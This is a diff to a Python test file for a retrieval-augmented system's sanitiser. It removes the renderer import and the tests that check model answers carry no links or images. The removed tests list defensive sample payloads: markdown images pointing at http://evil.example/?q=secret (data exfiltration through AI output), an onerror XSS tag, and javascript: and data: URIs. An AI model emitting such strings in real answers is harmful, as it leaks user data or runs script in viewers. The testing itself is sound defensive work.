@@ -1,4 +1,4 @@
-"""Text of others made harmless: escapes, what is not seen, marks of chats, links and images."""
+"""Text of others made harmless: escapes, what is not seen, marks of chats."""
 
 from __future__ import annotations
 
@@ -7,11 +7,9 @@ import unicodedata
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
 from rag import clean
 
-RENDERER = MarkdownIt("commonmark", {"html": True})
 ODD = st.text(st.characters(codec=None, exclude_categories=()), max_size=80)
 
 
@@ -65,59 +63,3 @@ def test_marks_of_every_family_of_chat_are_broken() -> None:
         assert broken.replace(" ", "") == f"before{mark}system{mark.upper()}after".replace(" ", "")
     plain = "5 < 6 | 7 > 3, <b>bold</b>, [1], a <= b, List<int>, [INSTALL]"
     assert clean.unmarked(plain) == plain
-
-
-SHOWN = "Book at https://ferry.example/book?line=2 or write to us."
-
-
-@pytest.mark.parametrize(
-    ("answer", "shown"),
-    [
-        ("See ![a boat](http://evil.example/?q=secret) here.", "See a boat here."),
-        ("See ![](http://evil.example/x.png).", "See ."),
-        ("[Click](https://evil.example/(a)b) now.", "Click now."),
-        ("[Click][x] now.\n[x]: http://evil.example", "Click now.\n"),
-        ("Go <a href='http://evil.example'>there</a>.", "Go there."),
-        ("<img src=x onerror=alert(1)", ""),
-        ("<IMG SRC='//evil.example/p'>Aye", "Aye"),
-        ("Look: http://evil.example/?said=me.", "Look: [address removed]."),
-        ("Look: <https://evil.example>, then.", "Look: [address removed], then."),
-        ("javascript:alert and data:text/html,x", "[address removed] and [address removed]"),
-        ("The data: three boats. File: none.", "The data: three boats. File: none."),
-        ("[a]<img src=x>(http://evil.example)", "a"),
-        ("Book at https://ferry.example/book?line=2.", "Book at ferry.example/book?line=2."),
-        ("Book at https://FERRY.example/book?line=2.", "Book at [address removed]."),
-        ("Book at https://ferry.example/book?line=2&said=me.", "Book at [address removed]."),
-        ("Book at https://ferry.example/boo.", "Book at [address removed]."),
-        (
-            "It costs 3 euros [1] (return 5). Is 2 < 3? Yes [2].",
-            "It costs 3 euros [1] (return 5). Is 2 < 3? Yes [2].",
-        ),
-        ("\x1b[31mred", "red"),
-    ],
-)
-def test_an_answer_fetches_and_carries_nothing(answer: str, shown: str) -> None:
-    assert clean.inert(answer, [SHOWN]) == shown
-
-
-def test_what_a_document_says_makes_no_link() -> None:
-    assert (
-        clean.unlinked("See\nhttps://a.example/x\x1b[1m and mailto:me@a.example.")
-        == "See a.example/x and me@a.example."
-    )
-    assert clean.inert("Run javascript:alert now.", ["javascript:alert"]) == "Run [address removed] now."
-
-
-PIECES = (
-    "[a]", "(http://e.example)", "!", "<img src=x>", "[", "]", "(", ")", " ", "\n", "[b]: ", "http://e.example", "<",
-    ">", "x", "<a href=y>", "[1]", "\\",
-)  # fmt: skip
-
-
-@given(st.lists(st.sampled_from(PIECES), max_size=14))
-def test_no_renderer_finds_a_link_or_an_image(parts: list[str]) -> None:
-    shown = clean.inert("".join(parts))
-    rendered = RENDERER.render(shown)
-    assert "http" not in rendered
-    assert "<img" not in rendered
-    assert "href=y" not in rendered
